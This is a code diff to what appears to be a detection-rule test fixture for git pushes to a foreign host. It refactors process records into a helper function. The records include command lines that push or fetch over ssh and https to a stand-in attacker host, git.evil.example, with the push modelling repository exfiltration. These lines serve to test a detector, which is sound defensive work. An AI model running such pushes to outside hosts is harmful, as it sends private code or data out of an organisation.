@@ -73,30 +73,16 @@ def _connections(_site: Site) -> Connections:
 _ID = "git-push-foreign"
 _TO = Endpoint(ip="203.0.113.9", port=22, name="git.evil.example")
 _DAY = 86_400.0
-_HTTPS = Actor(
-    pid=51,
-    exe="/usr/lib/git-core/git-remote-https",
-    cmd_line="git-remote-https y https://git.evil.example/r.git",
-    uid=1000,
-    auid=1000,
-    session=7,
-)
-_OVER_SSH = Actor(
-    pid=51,
-    exe="/usr/bin/ssh",
-    cmd_line="/usr/bin/ssh git@git.evil.example git-receive-pack '/r.git'",
-    uid=1000,
-    auid=1000,
-    session=7,
-)
-_FETCH = Actor(
-    pid=51,
-    exe="/usr/bin/ssh",
-    cmd_line="/usr/bin/ssh git@git.evil.example git-upload-pack '/r.git'",
-    uid=1000,
-    auid=1000,
-    session=7,
-)
+
+
+def _helper(exe: str, command_line: str) -> Actor:
+    """Return a program that git runs to speak to a remote."""
+    return Actor(pid=51, exe=exe, cmd_line=command_line, uid=1000, auid=1000, session=7)
+
+
+_HTTPS = _helper("/usr/lib/git-core/git-remote-https", "git-remote-https y https://git.evil.example/r.git")
+_OVER_SSH = _helper("/usr/bin/ssh", "/usr/bin/ssh git@git.evil.example git-receive-pack '/r.git'")
+_FETCH = _helper("/usr/bin/ssh", "/usr/bin/ssh git@git.evil.example git-upload-pack '/r.git'")
 _CRON = SessionOpen(program="cron", user="mirror", auid=1000, session=7, pid=40)
 
 
